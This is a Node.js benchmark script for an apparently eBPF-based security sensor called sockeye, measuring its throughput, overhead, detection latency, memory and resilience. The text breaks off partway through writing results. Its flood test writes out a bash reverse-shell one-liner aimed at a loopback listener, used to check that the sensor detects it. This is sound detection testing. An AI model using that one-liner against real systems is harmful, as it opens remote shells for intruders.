#!/usr/bin/env node
/**
 * `npm run bench [-- --quick] [-- --only throughput,overhead,latency,footprint,flood,storm,workload,enforce]
 *   [-- --elastic-rules DIR]`:
 * builds the C programs (bench/Makefile), measures, and writes bench/results.{md,json} and plot-*.svg.
 * Root only (it loads sockeye's programs). See bench/README.md for what each part measures.
 *
 * These machines are shared and noisy: every comparison is made within this one run, sides
 * interleaved and repeated, and results are reported as ratios or medians of rounds.
 */
import { spawn, execFileSync } from "node:child_process";
import { readFileSync, writeFileSync, existsSync, readdirSync, mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { cpus, totalmem, loadavg, tmpdir } from "node:os";
import net from "node:net";
import { createInterface } from "node:readline";
import { dirname, join } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import { renderPlots } from "./plots.mjs";

const BENCH = dirname(fileURLToPath(import.meta.url));
const ROOT = join(BENCH, "..");
const BIN = join(ROOT, "build", "bench");
const LOADGEN = join(BIN, "sockeye-loadgen");
const C_CONSUMER = join(BIN, "sockeye-c-consumer");
const TS_CONSUMER = join(BENCH, "ts-consumer.mjs");
const CLI = join(ROOT, "dist", "cli", "main.js");
const CLK_TCK = 100; // sysconf(_SC_CLK_TCK) on Linux x86_64/arm64

const argv = process.argv.slice(2);
const quick = argv.includes("--quick");
const onlyArg = argv[argv.indexOf("--only") + 1];
const only = argv.includes("--only") && onlyArg ? new Set(onlyArg.split(",")) : null;
const outDir = argv.includes("--out") ? argv[argv.indexOf("--out") + 1] : BENCH;
const wanted = (part) => !only || only.has(part);

// Sizes of each part, quick (a couple of minutes in all) and full.
const P = quick
  ? { rounds: 1, stepS: 1, ohRounds: 2, execRounds: 2, dupCalls: 300_000, connectCalls: 150_000, execCalls: 150,
      probes: 200, footprintS: 10, floodS: 10, shells: 10,
      stormRounds: 1, stormS: 3, stormWarmS: 3, workloadRounds: 2, workloadFiles: 24, workloadChecks: 60,
      enforceRounds: 2, enforceExecs: 150, killProbes: 30, relayShells: 4 }
  // fork+exec gets more rounds and calls than dup2/connect: its goal is a 5% line, and 4
  // rounds of 600 left the sides within about 3% noise of each other (bench/README.md).
  : { rounds: 3, stepS: 2, ohRounds: 4, execRounds: 10, dupCalls: 1_000_000, connectCalls: 400_000, execCalls: 1500,
      probes: 1000, footprintS: 60, floodS: 30, shells: 30,
      // The storm's windows are long enough for ~50 of the reader's 50 ms batches each; the
      // warm-up (JIT, the process table filling) is measured on its own, not mixed in.
      stormRounds: 3, stormS: 8, stormWarmS: 10, workloadRounds: 10, workloadFiles: 96, workloadChecks: 300,
      // enforce: ~20 s of fork+exec sides, ~1 s of kill probes, ~10 s of relays (under a minute).
      enforceRounds: 6, enforceExecs: 1000, killProbes: 300, relayShells: 15 };
// Process-storm rates (fork+exec+exit of /bin/true per second); 0 = closed loop.
const STORM_RATES = [100, 500, 1000, 2000, 0];
const STORM_RATES_ELASTIC = [500, 0];
// Elastic's Linux rules for the storm's second side (a checkout of elastic/detection-rules is
// not part of this repository): --elastic-rules DIR, e.g. .../detection-rules/rules/linux.
const elasticRules = argv.includes("--elastic-rules") ? argv[argv.indexOf("--elastic-rules") + 1] : null;
const LADDER = [25e3, 50e3, 100e3, 150e3, 200e3, 300e3, 400e3, 500e3, 600e3, 800e3, 1e6, 1.25e6, 1.5e6];

function fail(message) {
  process.stderr.write(`bench: ${message}\n`);
  process.exit(1);
}
const log = (m) => process.stderr.write(`bench: ${m}\n`);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const median = (xs) => {
  const s = [...xs].sort((a, b) => a - b);
  return s.length === 0 ? null : s.length % 2 ? s[(s.length - 1) / 2] : (s[s.length / 2 - 1] + s[s.length / 2]) / 2;
};
const quantile = (xs, q) => {
  const s = [...xs].sort((a, b) => a - b);
  return s.length === 0 ? null : s[Math.min(s.length - 1, Math.floor(q * s.length))];
};
const round = (x, d = 3) => (x === null || x === undefined || !Number.isFinite(x) ? null : Number(x.toFixed(d)));

/** utime + stime of a process and all its threads, in seconds. */
function cpuSeconds(pid) {
  const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
  const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
  return (Number(fields[11]) + Number(fields[12])) / CLK_TCK;
}
/** Resident MB of the BPF ring buffers' mappings (libbpf maps each ring's data twice). */
function ringMappingsMb(pid) {
  let inRing = false, kb = 0;
  for (const line of readFileSync(`/proc/${pid}/smaps`, "utf8").split("\n")) {
    if (/^[0-9a-f]+-[0-9a-f]+ /.test(line)) inRing = line.includes("anon_inode:bpf-map");
    else if (inRing && line.startsWith("Rss:")) kb += Number(line.split(/\s+/)[1]);
  }
  return kb / 1024;
}
function rssMb(pid) {
  const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, "utf8"));
  return m ? Number(m[1]) / 1024 : null;
}

/** Runs a command to its end, bounded in time; returns its last stdout line parsed as JSON. */
function runJson(cmd, args, timeoutS = 180) {
  return new Promise((resolve, reject) => {
    const child = spawn(cmd, args, { stdio: ["ignore", "pipe", "inherit"] });
    let out = "";
    child.stdout.on("data", (d) => (out += d));
    const timer = setTimeout(() => child.kill("SIGKILL"), timeoutS * 1000);
    child.on("exit", (code) => {
      clearTimeout(timer);
      if (code !== 0) return reject(new Error(`${cmd} ${args.join(" ")} exited ${code}`));
      resolve(JSON.parse(out.trim().split("\n").pop() ?? ""));
    });
  });
}
const loadgen = (...args) => runJson(LOADGEN, args.map(String));

/** A consumer (C or Node) speaking the stats protocol of bench/ts-consumer.mjs. */
async function startConsumer(kind) {
  // full-rr: the full consumer under SCHED_RR priority 1, what packaging/sockeye.service
  // suggests for a host where the detection latency tail matters.
  const [cmd, args] = kind === "c" ? [C_CONSUMER, []] : kind === "attached" ? [C_CONSUMER, ["attach-only"]]
    : kind === "full-rr" ? ["chrt", ["--rr", "1", process.execPath, TS_CONSUMER, "full"]]
    : [process.execPath, [TS_CONSUMER, kind]];
  const child = spawn(cmd, args, { stdio: ["pipe", "pipe", "inherit"] });
  const lines = createInterface({ input: child.stdout });
  const waiting = [];
  lines.on("line", (l) => waiting.shift()?.(JSON.parse(l)));
  const next = () => new Promise((resolve, reject) => {
    const t = setTimeout(() => reject(new Error(`${kind} consumer did not answer`)), 60_000);
    waiting.push((v) => { clearTimeout(t); resolve(v); });
  });
  const ready = await next();
  if (!ready.ready) fail(`${kind} consumer did not start`);
  const stats = async () => { child.stdin.write("stats\n"); return next(); };
  return {
    pid: child.pid,
    stats,
    /** Stats once the consumer has caught up: counts stop moving (bounded wait). */
    async settled() {
      let prev = await stats();
      for (let i = 0; i < 100; i++) {
        await sleep(150);
        const cur = await stats();
        cur.latenciesNs = [...prev.latenciesNs ?? [], ...cur.latenciesNs ?? []];
        cur.receivedLatenciesNs = [...prev.receivedLatenciesNs ?? [], ...cur.receivedLatenciesNs ?? []];
        if (cur.records === prev.records) return cur;
        prev = cur;
      }
      return prev;
    },
    async stop() {
      child.stdin.end("quit\n");
      await /** @type {Promise<void>} */ (new Promise((r) => { const t = setTimeout(() => { child.kill("SIGKILL"); r(); }, 10_000); child.on("exit", () => { clearTimeout(t); r(); }); }));
    },
  };
}

// ---- machine facts -----------------------------------------------------------------------

function sh(cmd) {
  try { return execFileSync("bash", ["-c", cmd], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }).trim(); } catch { return ""; }
}
function machineFacts() {
  return {
    date: new Date().toISOString(),
    kernel: sh("uname -r"),
    cpu: cpus()[0]?.model ?? "?",
    cores: cpus().length,
    memoryGiB: round(totalmem() / 2 ** 30, 1),
    node: process.version,
    loadavgAtStart: loadavg().map((x) => round(x, 2)),
    // Other sockeye sensors (other developers' tests) attached now add kernel cost to every side.
    otherBpfProgramsAtStart: Number(sh("bpftool prog show 2>/dev/null | grep -c 'name handle_'") || 0),
    commit: sh(`git -C ${ROOT} rev-parse --short HEAD`),
    quick,
  };
}

// ---- 1. throughput and loss ---------------------------------------------------------------

async function throughputStep(consumer, rate) {
  const before = await consumer.settled();
  const cpu0 = cpuSeconds(consumer.pid);
  const m0 = machineJiffies();
  const gen = await loadgen("dups", rate, P.stepS);
  const m1 = machineJiffies();
  const after = await consumer.settled();
  const cpu = cpuSeconds(consumer.pid) - cpu0;
  const received = after.loadgenDups - before.loadgenDups;
  const lost = after.dupLost - before.dupLost;
  return {
    targetRate: rate, achievedRate: Math.round(gen.generated / gen.seconds), generated: gen.generated,
    received, kernelLost: lost, missing: gen.generated - received,
    lossless: lost === 0 && received === gen.generated,
    cpuSecondsPerMillion: received ? round((cpu / received) * 1e6, 3) : null,
    // Share of all CPUs busy while the generator ran: 1.0 = both cores saturated (the
    // generator on one, the consumer and the kernel's work on the other).
    machineBusyShare: round((m1.busy - m0.busy) / (m1.total - m0.total), 3),
  };
}

async function throughput() {
  const kinds = ["c", "noop", "full"];
  const steps = [];
  for (let r = 0; r < P.rounds; r++) {
    // Rotate the order each round so no side always runs first on a warming machine.
    for (const kind of [...kinds.slice(r % 3), ...kinds.slice(0, r % 3)]) {
      const consumer = await startConsumer(kind);
      const closed = await throughputStep(consumer, 0);
      steps.push({ round: r, consumer: kind, closedLoop: true, ...closed });
      log(`throughput ${kind} round ${r}: closed loop ${closed.achievedRate}/s, lost ${closed.kernelLost}, missing ${closed.missing}`);
      let lossy = 0;
      for (const rate of LADDER) {
        if (rate > closed.achievedRate * 1.1) break;
        const s = await throughputStep(consumer, rate);
        steps.push({ round: r, consumer: kind, closedLoop: false, ...s });
        log(`throughput ${kind} round ${r}: ${rate}/s -> ${s.achievedRate}/s lost ${s.kernelLost} missing ${s.missing}`);
        // Two lossy steps in a row: the rates above will not be lossless either.
        if (s.lossless) lossy = 0; else if (++lossy === 2) break;
      }
      await consumer.stop();
    }
  }
  const summary = {};
  for (const kind of kinds) {
    const mine = steps.filter((s) => s.consumer === kind);
    const perRound = [];
    for (let r = 0; r < P.rounds; r++) {
      const ok = mine.filter((s) => s.round === r && s.lossless).map((s) => s.achievedRate);
      perRound.push(ok.length ? Math.max(...ok) : 0);
    }
    const best = Math.max(...perRound);
    const atBest = mine.filter((s) => s.lossless && s.achievedRate === best)[0];
    summary[kind] = {
      losslessPerRound: perRound,
      lossless: median(perRound),
      closedLoopRate: median(mine.filter((s) => s.closedLoop).map((s) => s.achievedRate)),
      closedLoopLossShare: median(mine.filter((s) => s.closedLoop).map((s) => s.missing / s.generated)),
      cpuSecondsPerMillionAtLossless: atBest?.cpuSecondsPerMillion ?? null,
      lossesAbove: mine.filter((s) => !s.lossless && s.achievedRate > best)
        .map((s) => ({ round: s.round, rate: s.achievedRate, lostShare: round(s.missing / s.generated, 4) })),
    };
  }
  const ratios = [...Array(P.rounds).keys()].map((r) =>
    summary.c.losslessPerRound[r] ? summary.noop.losslessPerRound[r] / summary.c.losslessPerRound[r] : 0);
  const fullRatios = [...Array(P.rounds).keys()].map((r) =>
    summary.c.losslessPerRound[r] ? summary.full.losslessPerRound[r] / summary.c.losslessPerRound[r] : 0);
  return { steps, summary, tsToCRatioPerRound: ratios.map((x) => round(x)), tsToCRatio: round(median(ratios)),
    fullToCRatioPerRound: fullRatios.map((x) => round(x)), fullToCRatio: round(median(fullRatios)) };
}

// ---- 2. overhead on the monitored host ----------------------------------------------------

// Sides, from no sensor to the full pipeline: each step adds one layer, so the differences
// split the cost: attached (programs live, nobody reads: the kernel side alone), c (plus a
// minimal reader: wakeups and reading), noop (plus the addon and decoder), full (plus rules,
// process table, output: what `sockeye run` costs).
const OVERHEAD_SIDES = ["off", "attached", "c", "noop", "full"];

async function overhead() {
  const kinds = [["dup2-nonsock", P.dupCalls], ["connect-udp", P.connectCalls], ["exec", P.execCalls]];
  const samples = Object.fromEntries(OVERHEAD_SIDES.map((s) => [s, {}]));
  const rounds = Math.max(P.ohRounds, P.execRounds);
  for (let r = 0; r < rounds; r++) {
    // Rotated, and reversed every other round: drift hits every side alike.
    const rotated = [...OVERHEAD_SIDES.slice(r % OVERHEAD_SIDES.length), ...OVERHEAD_SIDES.slice(0, r % OVERHEAD_SIDES.length)];
    for (const side of r % 2 ? rotated.reverse() : rotated) {
      const consumer = side === "off" ? null : await startConsumer(side);
      for (const [kind, n] of kinds) {
        if (r >= (kind === "exec" ? P.execRounds : P.ohRounds)) continue;
        const res = await loadgen("overhead", kind, n);
        (samples[side][kind] ??= []).push(res.ns_per_call);
      }
      await consumer?.stop();
    }
    log(`overhead round ${r}: ${JSON.stringify(Object.fromEntries(kinds.map(([k]) => [k, OVERHEAD_SIDES.map((s) => samples[s][k]?.at(-1))])))}`);
  }
  const out = {};
  for (const [kind] of kinds) {
    const off = median(samples.off[kind]), on = median(samples.full[kind]);
    const sides = Object.fromEntries(OVERHEAD_SIDES.slice(1).map((s) => {
      const ns = median(samples[s][kind]);
      return [s, { ns: round(ns, 1), addedNs: round(ns - off, 1), ratio: round(ns / off) }];
    }));
    out[kind] = { offNs: round(off, 1), onNs: round(on, 1), addedNs: round(on - off, 1), ratio: round(on / off), sides,
      samples: Object.fromEntries(OVERHEAD_SIDES.map((s) => [s, samples[s][kind]])) };
  }
  return out;
}

// ---- 3. detection latency -----------------------------------------------------------------

async function latency(loadRate) {
  const sum = (xs) => ({ samples: xs.length, p50Ms: round(quantile(xs, 0.5), 3), p99Ms: round(quantile(xs, 0.99), 3), maxMs: round(Math.max(...xs), 3) });
  // The 0th to 100th percentiles (ms), for the CDF plot (bench/plots.mjs).
  const withCdf = (xs) => ({ ...sum(xs), cdf: [...Array(101).keys()].map((i) => round(quantile(xs, i / 100), 3)) });
  const ms = (xs) => xs.map((ns) => ns / 1e6);
  // Breakdown, idle: the C reader holding the record (kernel, wakeup, scheduling of a reader
  // thread), then in the full pipeline the batch reaching the subscriber (plus the addon's
  // hop to the event loop and decoding) and the finding written (plus rules and output).
  const c = await startConsumer("c");
  await c.settled();
  await loadgen("probe", P.probes, 2000);
  const cReader = sum(ms((await c.settled()).latenciesNs));
  await c.stop();

  const consumer = await startConsumer("full");
  await consumer.settled();
  await loadgen("probe", P.probes, 2000);
  const idleStats = await consumer.settled();
  const idle = ms(idleStats.latenciesNs);
  // Under load: matching dups from another process at `loadRate` for the whole probe run.
  const loadS = Math.ceil((P.probes * 2.5) / 1000) + 2;
  const load = loadgen("dups", loadRate, loadS);
  await sleep(500);
  await loadgen("probe", P.probes, 2000);
  const gen = await load;
  const loaded = ms((await consumer.settled()).latenciesNs);
  await consumer.stop();

  // The idle tail is mostly the wait for a CPU; the same probes with the daemon scheduled
  // ahead of the time-shared tasks (SCHED_RR) measure how much.
  const rr = await startConsumer("full-rr");
  await rr.settled();
  await loadgen("probe", P.probes, 2000);
  const idleRr = ms((await rr.settled()).latenciesNs);
  await rr.stop();
  return {
    probes: P.probes, idle: withCdf(idle), idleSchedRr: withCdf(idleRr),
    idleBreakdown: { cReaderHolds: cReader, subscriberReceives: sum(ms(idleStats.receivedLatenciesNs)), findingWritten: sum(idle) },
    load: { ...withCdf(loaded), loadRate: Math.round(gen.generated / gen.seconds) },
  };
}

// ---- 4. footprint ------------------------------------------------------------------------

/**
 * @param {"ignore" | "pipe"} stdout
 * @param {string[]} extraArgs
 */
function startDaemon(stdout = "ignore", extraArgs = []) {
  const child = spawn(process.execPath, [CLI, "run", ...extraArgs], { stdio: ["ignore", stdout, "pipe"] });
  const stderrStream = /** @type {import("node:stream").Readable} */ (child.stderr); // piped above
  let stderr = "";
  stderrStream.on("data", (d) => (stderr += d));
  const ready = /** @type {Promise<void>} */ (new Promise((resolve, reject) => {
    const t = setTimeout(() => reject(new Error(`sockeye run not ready in 30 s: ${stderr.trim().split("\n").pop()}`)), 30_000);
    stderrStream.on("data", () => { if (stderr.includes("ready")) { clearTimeout(t); resolve(); } });
    child.on("exit", (code) => reject(new Error(`sockeye run exited ${code}: ${stderr.trim().split("\n").pop()}`)));
  }));
  const exited = new Promise((r) => child.on("exit", r));
  return {
    child, ready, stderrText: () => stderr,
    /** The daemon's "stopped" log line (its kernel counters), once it has stopped. */
    stoppedLine: () => stderr.split("\n").filter(Boolean).map((l) => { try { return JSON.parse(l); } catch { return {}; } })
      .find((l) => l.message === "stopped"),
    async stop() {
      child.kill("SIGTERM");
      const t = setTimeout(() => child.kill("SIGKILL"), 10_000);
      await exited;
      clearTimeout(t);
    },
  };
}

async function footprint() {
  const d = startDaemon();
  await d.ready;
  await sleep(2000); // settle: the process table seeded, JIT warm
  const pid = d.child.pid;
  const rss = [];
  const cpu0 = cpuSeconds(pid), t0 = Date.now();
  for (let i = 0; i < P.footprintS; i++) {
    await sleep(1000);
    const mb = rssMb(pid);
    if (mb !== null) rss.push(mb);
  }
  const cpuPercent = ((cpuSeconds(pid) - cpu0) / ((Date.now() - t0) / 1000)) * 100;
  const rings = ringMappingsMb(pid);
  await d.stop();
  return {
    seconds: P.footprintS, rssMbMedian: round(median(rss), 1), rssMbMax: round(Math.max(...rss), 1),
    ringMappingsRssMb: round(rings, 1), rssMbWithoutRingMappings: round(median(rss) - rings, 1),
    cpuPercent: round(cpuPercent, 2),
  };
}

// ---- 5. flood resilience ------------------------------------------------------------------

async function flood() {
  const sockets = new Set();
  // Each reverse shell is told to exit as soon as it connects.
  const server = net.createServer((s) => { sockets.add(s); s.on("error", () => {}); s.end("exit\n"); });
  await /** @type {Promise<void>} */ (new Promise((r) => server.listen(0, "127.0.0.1", r)));
  const port = /** @type {net.AddressInfo} */ (server.address()).port;

  const d = startDaemon("pipe");
  let findingsText = "";
  /** @type {import("node:stream").Readable} */ (d.child.stdout).on("data", (b) => (findingsText += b)); // "pipe"
  await d.ready;
  const flooding = loadgen("flood", P.floodS);
  await sleep(1000);
  const shellPids = [];
  const gap = ((P.floodS - 3) * 1000) / P.shells;
  for (let i = 0; i < P.shells; i++) {
    const sh = spawn("bash", ["-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { stdio: "ignore" });
    shellPids.push(sh.pid);
    const done = new Promise((r) => sh.on("exit", r));
    const kill = setTimeout(() => sh.kill("SIGKILL"), 5000);
    await Promise.all([done, sleep(gap)]);
    clearTimeout(kill);
  }
  const floodResult = await flooding;
  await sleep(2000); // let the daemon drain what the flood left in the rings
  await d.stop();
  for (const s of sockets) s.destroy();
  server.close();

  const detectedPids = new Set();
  for (const line of findingsText.split("\n")) {
    if (!line) continue;
    const f = JSON.parse(line);
    // bash forks for `>& /dev/tcp/...`: the redirected shell is the spawned bash's child.
    if (f.rule?.id === "TRC-101" && f.destination?.port === port) detectedPids.add(f.process?.pid).add(f.process?.parent?.pid);
  }
  const detected = shellPids.filter((p) => detectedPids.has(p)).length;
  const stopped = d.stoppedLine();
  return {
    shells: P.shells, detected, rate: round(detected / P.shells, 3), flood: floodResult,
    kernelCounters: stopped?.kernel ?? null,
  };
}

// ---- 6. process storms and an exec-heavy workload ------------------------------------------

/** ns on CPU per thread of a process (/proc/PID/task/T/schedstat field 1), by thread name + id. */
function threadCpuNs(pid) {
  const out = {};
  for (const tid of readdirSync(`/proc/${pid}/task`)) {
    try {
      const name = readFileSync(`/proc/${pid}/task/${tid}/comm`, "utf8").trim();
      out[`${tid}`] = { name, ns: Number(readFileSync(`/proc/${pid}/task/${tid}/schedstat`, "utf8").split(" ")[0]) };
    } catch { /* the thread ended between readdir and read */ }
  }
  return out;
}
/**
 * CPU the daemon used between two threadCpuNs() snapshots, split into the main (event loop)
 * thread, the ring reader, and the rest (V8's GC and compiler helpers, libuv's pool).
 */
function threadCpuDelta(pid, a, b) {
  const split = { main: 0, reader: 0, other: 0 };
  for (const [tid, t] of Object.entries(b)) {
    const ns = t.ns - (a[tid]?.ns ?? 0);
    if (Number(tid) === pid) split.main += ns;
    else if (t.name === "sockeye-reader") split.reader += ns;
    else split.other += ns;
  }
  return split;
}
/** Busy and total jiffies of all CPUs (/proc/stat): busy share = how saturated the machine was. */
function machineJiffies() {
  const f = readFileSync("/proc/stat", "utf8").split("\n")[0].trim().split(/\s+/).slice(1).map(Number);
  const idle = f[3] + (f[4] ?? 0);
  const total = f.slice(0, 8).reduce((x, y) => x + y, 0);
  return { busy: total - idle, total };
}

/** One storm window beside a running daemon: the daemon's CPU per exec, by thread. */
async function stormWindow(pid, rate, seconds) {
  const t0 = threadCpuNs(pid), m0 = machineJiffies();
  const gen = await loadgen("execs", rate, seconds);
  const t1 = threadCpuNs(pid), m1 = machineJiffies();
  const d = threadCpuDelta(pid, t0, t1);
  const perExec = (ns) => round(ns / 1000 / gen.execs, 1);
  return {
    target: rate, closedLoop: rate === 0, achieved: round(gen.rate, 1), execs: gen.execs,
    // A fixed rate the generator fell more than 5% short of is reported, not failed.
    reachable: rate === 0 || gen.rate >= rate * 0.95,
    cpuUsPerExec: perExec(d.main + d.reader + d.other),
    threads: { main: perExec(d.main), reader: perExec(d.reader), other: perExec(d.other) },
    machineBusyShare: round((m1.busy - m0.busy) / (m1.total - m0.total), 3),
  };
}

/** The daemon at each storm rate: warm-up first (measured on its own), then rounds of every rate. */
async function stormSide(extraArgs, rates) {
  const d = startDaemon("ignore", extraArgs);
  await d.ready;
  await sleep(1000);
  const pid = d.child.pid;
  // Idle beside nothing: what the daemon costs per second with no storm (e.g. timers, stats).
  const i0 = threadCpuNs(pid);
  await sleep(P.stormS * 1000);
  const idle = threadCpuDelta(pid, i0, threadCpuNs(pid));
  const idleCpuMsPerS = round((idle.main + idle.reader + idle.other) / 1e6 / P.stormS, 2);
  // The first seconds of a storm include V8 compiling the hot path: a one-off at start.
  const warmup = await stormWindow(pid, 500, P.stormWarmS);
  const windows = [];
  for (let r = 0; r < P.stormRounds; r++) {
    const order = r % 2 ? [...rates].reverse() : rates;
    for (const rate of order) {
      const w = await stormWindow(pid, rate, P.stormS);
      windows.push({ round: r, ...w });
      log(`storm ${extraArgs.length ? "elastic" : "default"} round ${r}: ${rate || "closed loop"} -> ${w.achieved}/s, ${w.cpuUsPerExec} µs/exec (main ${w.threads.main}, reader ${w.threads.reader}, other ${w.threads.other}), machine busy ${w.machineBusyShare}`);
    }
  }
  await d.stop();
  const stopped = d.stoppedLine();
  const summary = rates.map((rate) => {
    const mine = windows.filter((w) => w.target === rate);
    const med = (f) => round(median(mine.map(f)), 1);
    return {
      target: rate, closedLoop: rate === 0, achieved: med((w) => w.achieved), reachable: mine.every((w) => w.reachable),
      cpuUsPerExec: med((w) => w.cpuUsPerExec),
      threads: { main: med((w) => w.threads.main), reader: med((w) => w.threads.reader), other: med((w) => w.threads.other) },
      machineBusyShare: round(median(mine.map((w) => w.machineBusyShare)), 3),
    };
  });
  return { args: extraArgs, idleCpuMsPerS, warmup, rates: summary, windows, kernelCounters: stopped?.kernel ?? null };
}

/**
 * Elastic's rules in-process (bench/elastic-rules.mjs): the engine's CPU with and without them, and each rule's own.
 * @param {string} dir
 */
function elasticPerRule(dir) {
  const out = join(mkdtempSync(join(tmpdir(), "sockeye-bench-")), "elastic-rules.json");
  execFileSync(process.execPath, [join(BENCH, "elastic-rules.mjs"), dir, "--json", out, "--execs", String(quick ? 2000 : 20_000)], { stdio: ["ignore", "ignore", "inherit"] });
  const result = JSON.parse(readFileSync(out, "utf8"));
  rmSync(dirname(out), { recursive: true, force: true });
  return result;
}

async function storm() {
  const sides = { default: await stormSide([], STORM_RATES) };
  if (elasticRules) sides.elastic = await stormSide(["--rules", elasticRules, "--lenient-rules"], STORM_RATES_ELASTIC);
  const elasticInProcess = elasticRules ? elasticPerRule(elasticRules) : null;
  return { sides, elasticRules, elasticInProcess, skippedElastic: elasticRules ? null : "no --elastic-rules DIR given" };
}

/**
 * An exec-heavy workload the bench writes itself: a tree of C files built with `make -j2`
 * (cc, as, ld: a real compiler's processes) and a configure-style script (sh -c, test, grep,
 * sed, cc checks). No network.
 */
function writeWorkload(dir) {
  mkdirSync(join(dir, "src"), { recursive: true });
  const objs = [];
  for (let i = 0; i < P.workloadFiles; i++) {
    writeFileSync(join(dir, "src", `f${i}.c`),
      `#include <string.h>\n#include "common.h"\nint f${i}(const char *s) { int n = 0; for (size_t k = 0; k < strlen(s); k++) n += s[k] * ${i + 1}; return n + COMMON; }\n`);
    objs.push(`src/f${i}.o`);
  }
  writeFileSync(join(dir, "src", "common.h"), "#define COMMON 7\n");
  writeFileSync(join(dir, "src", "main.c"),
    `${objs.map((_, i) => `int f${i}(const char *);`).join("\n")}\nint main(void) { int n = 0; ${objs.map((_, i) => `n += f${i}("x");`).join(" ")} return n == 0; }\n`);
  writeFileSync(join(dir, "Makefile"),
    `OBJS = ${objs.join(" ")} src/main.o\nall: app\napp: $(OBJS)\n\tcc -o $@ $(OBJS)\nsrc/%.o: src/%.c src/common.h\n\tcc -O1 -c -o $@ $<\nclean:\n\trm -f app $(OBJS)\n.PHONY: all clean\n`);
  const checks = [];
  for (let i = 0; i < P.workloadChecks; i++) {
    checks.push(i % 10 === 0
      ? `printf 'int main(void){return 0;}\\n' > conftest.c && cc -o conftest conftest.c && ./conftest && echo "checking feature ${i}... yes" >> config.log`
      : i % 3 === 0 ? `sh -c "echo x | grep -q x && ls / > /dev/null"`
      : i % 3 === 1 ? `test -x /bin/sh && command -v sed > /dev/null && echo "HAVE_${i}=1" | sed 's/=1/ 1/' >> config.h`
      : `uname -m | tr a-z A-Z > /dev/null; expr ${i} + 1 > /dev/null`);
  }
  writeFileSync(join(dir, "configure.sh"), `#!/bin/sh\nset -e\n: > config.log\n: > config.h\n${checks.join("\n")}\nrm -f conftest conftest.c\n`);
}

/** Wall time of one workload run (clean build with make -j2, then the configure script), in s. */
function runWorkloadOnce(dir) {
  const t0 = process.hrtime.bigint();
  execFileSync("make", ["-s", "-C", dir, "clean"], { stdio: "ignore" });
  execFileSync("make", ["-s", "-j2", "-C", dir, "all"], { stdio: "ignore" });
  execFileSync("sh", ["configure.sh"], { cwd: dir, stdio: "ignore" });
  return Number(process.hrtime.bigint() - t0) / 1e9;
}

// Sides of each workload round: no daemon, the daemon (default rules, started and warmed up
// before the run), and a second no-daemon run: the control that measures the noise floor.
const WORKLOAD_SIDES = ["off", "on", "control"];

async function workload() {
  const dir = mkdtempSync(join(tmpdir(), "sockeye-bench-workload-"));
  try {
    writeWorkload(dir);
    runWorkloadOnce(dir); // page cache, make's first look
    const forks0 = forksSinceBoot();
    runWorkloadOnce(dir);
    const processesPerRun = forksSinceBoot() - forks0;
    /** @type {{ off: number[], on: number[], control: number[] }} */
    const samples = { off: [], on: [], control: [] };
    /** @type {number[]} */
    const daemonCpu = [];
    for (let r = 0; r < P.workloadRounds; r++) {
      const rotated = [...WORKLOAD_SIDES.slice(r % 3), ...WORKLOAD_SIDES.slice(0, r % 3)];
      for (const side of r % 2 ? rotated.reverse() : rotated) {
        if (side !== "on") { samples[side].push(runWorkloadOnce(dir)); continue; }
        const d = startDaemon();
        await d.ready;
        // JIT warm (about 5,000 execs: V8 optimizes by calls made, not time), as on a host where
        // the daemon has run for a while.
        await loadgen("execs", 1000, quick ? 2 : 5);
        const t0 = threadCpuNs(d.child.pid);
        samples.on.push(runWorkloadOnce(dir));
        const c = threadCpuDelta(d.child.pid, t0, threadCpuNs(d.child.pid));
        daemonCpu.push((c.main + c.reader + c.other) / 1e3 / processesPerRun);
        await d.stop();
      }
      log(`workload round ${r}: off ${samples.off.at(-1)?.toFixed(3)} s, on ${samples.on.at(-1)?.toFixed(3)} s, control ${samples.control.at(-1)?.toFixed(3)} s`);
    }
    // Ratios per round (sides of a round ran back to back), then the median.
    const onRatios = samples.on.map((x, i) => x / samples.off[i]);
    const controlRatios = samples.control.map((x, i) => x / samples.off[i]);
    return {
      files: P.workloadFiles, configureChecks: P.workloadChecks, processesPerRun, rounds: P.workloadRounds,
      secondsMedian: { off: round(median(samples.off)), on: round(median(samples.on)), control: round(median(samples.control)) },
      overheadRatio: round(median(onRatios)),
      overheadRatioPerRound: onRatios.map((x) => round(x)),
      controlRatio: round(median(controlRatios)),
      controlRatioRange: [round(Math.min(...controlRatios)), round(Math.max(...controlRatios))],
      daemonCpuUsPerProcess: round(median(daemonCpu), 1),
      samples,
    };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
/** Processes created since boot (/proc/stat "processes"): forks, threads included. */
function forksSinceBoot() {
  return Number(/^processes (\d+)/m.exec(readFileSync("/proc/stat", "utf8"))?.[1] ?? 0);
}

// ---- report -----------------------------------------------------------------------------

async function writeResults(facts, parts, commands) {
  const t = parts.throughput, o = parts.overhead, l = parts.latency, f = parts.footprint, fl = parts.flood;
  const st = parts.storm?.sides.default, w = parts.workload, en = parts.enforce;
  const stormAt = (side, rate) => side?.rates.find((x) => x.target === rate) ?? null;
  const json = {
    lossless_events_per_s_ts: t?.summary.noop.lossless ?? null,
    lossless_events_per_s_c: t?.summary.c.lossless ?? null,
    lossless_events_per_s_full: t?.summary.full.lossless ?? null,
    ts_to_c_throughput_ratio: t?.tsToCRatio ?? null,
    full_to_c_throughput_ratio: t?.fullToCRatio ?? null,
    dup2_added_ns: o?.["dup2-nonsock"].addedNs ?? null,
    connect_added_ns: o?.["connect-udp"].addedNs ?? null,
    exec_added_ns: o?.exec.addedNs ?? null,
    exec_overhead_ratio: o?.exec.ratio ?? null,
    exec_overhead_ratio_kernel_only: o?.exec.sides.attached.ratio ?? null,
    exec_overhead_ratio_c_consumer: o?.exec.sides.c.ratio ?? null,
    exec_overhead_ratio_noop: o?.exec.sides.noop.ratio ?? null,
    latency_p50_ms_idle: l?.idle.p50Ms ?? null,
    latency_p99_ms_idle: l?.idle.p99Ms ?? null,
    latency_p99_ms_idle_c_reader: l?.idleBreakdown.cReaderHolds.p99Ms ?? null,
    latency_p99_ms_idle_subscriber: l?.idleBreakdown.subscriberReceives.p99Ms ?? null,
    latency_p99_ms_load: l?.load.p99Ms ?? null,
